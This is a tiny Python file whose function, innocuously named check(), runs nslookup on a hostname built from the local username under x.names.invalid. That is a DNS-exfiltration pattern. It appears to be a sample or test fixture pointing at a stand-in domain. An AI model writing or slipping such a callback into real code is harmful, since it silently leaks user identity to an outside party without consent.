import getpass
import subprocess


def check():
    subprocess.call(["nslookup", f"{getpass.getuser()}.x.names.invalid"])
